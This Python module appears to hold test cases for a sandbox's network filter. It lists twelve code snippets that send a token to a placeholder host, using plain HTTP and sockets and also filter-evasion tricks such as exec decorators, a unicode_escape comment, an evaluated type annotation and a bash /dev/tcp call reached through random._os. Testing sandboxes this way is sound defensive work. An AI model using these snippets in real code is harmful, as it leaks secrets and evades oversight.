# SPDX-License-Identifier: Apache-2.0
"""Something is sent to a server outside."""

from belljar_lab.filtered.spellings import Spelling

NAME = "phone-home"
DOES = "sends a token to a public address"
SUCCESS = "the server there received the token"

ROWS = [
    Spelling("plain", "urllib", r"""
from urllib.request import urlopen

print(urlopen("http://@HOST@/@TOKEN@").read())
"""),
    Spelling("http-client", "http.client", r"""
import http.client

peer = http.client.HTTPConnection("@HOST@")
peer.request("POST", "/", "@TOKEN@")
print(peer.getresponse().read())
"""),
    Spelling("socket", "a socket", r"""
import socket

with socket.create_connection(("@HOST@", 80)) as peer:
    peer.sendall(b"GET /@TOKEN@ HTTP/1.0\r\n\r\n")
    print(peer.recv(1000))
"""),
    Spelling("socket-beneath", "the module beneath socket", r"""
import _socket

peer = _socket.socket()
peer.connect(("@HOST@", 80))
peer.send(b"GET /@TOKEN@ HTTP/1.0\r\n\r\n")
print(peer.recv(1000))
"""),
    Spelling("xmlrpc", "a procedure called at the other side", r"""
from xmlrpc.client import ServerProxy

ServerProxy("http:" "//@HOST@/").report("@TOKEN@")
"""),
    Spelling("decorator", "exec() as a decorator, which is no call", r"""
CODE = "from urll" "ib.request import urlop" "en\nurlop" "en('http:" "//@HOST@/@TOKEN@')"


@exec
@(lambda _: CODE)
def report():
    pass
"""),
    Spelling("source-encoding", "a comment that is code in the file's own encoding", r"""
# coding: unicode_escape
# Sends the report. \x0a\x69mport socket\x0apeer = \x73ocket.create_connection(('@HOST@', 80))
# \x0apeer.sendall(b'GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n'); print(peer.recv(1000))
"""),
    Spelling("asyncio", "a connection of asyncio", r"""
import asyncio


async def report():
    reader, writer = await asyncio.open_connection("@HOST@", 80)
    writer.write(b"GET /@TOKEN@ HTTP/1.0\r\n\r\n")
    print(await reader.read())


asyncio.run(report())
"""),
    Spelling("logging", "a line of the log that goes to a server", r"""
import logging.handlers

log = logging.getLogger()
log.addHandler(logging.handlers.HTTPHandler("@HOST@", "/"))
log.warning("@TOKEN@")
"""),
    Spelling("xml-sax", "a document that is parsed from an address", r"""
import xml.sax

xml.sax.parse("http:" "//@HOST@/@TOKEN@", xml.sax.ContentHandler())
"""),
    Spelling("type-hints", "code in an annotation, evaluated by typing", r"""
import typing


class Report:
    peer: ("__imp" "ort__('soc' 'ket').create_connection(('@HOST@', 80))"
           ".sendall(b'GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n')")


typing.get_type_hints(Report)
"""),
    Spelling("shell", "a shell's own sockets, the shell found by operator", r"""
import operator
import random

run = operator.attrgetter("_o" "s.sys" "tem")(random)
run("bas" "h -c 'printf \"GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n\" > /dev" "/tcp/@HOST@/80'")
"""),
]
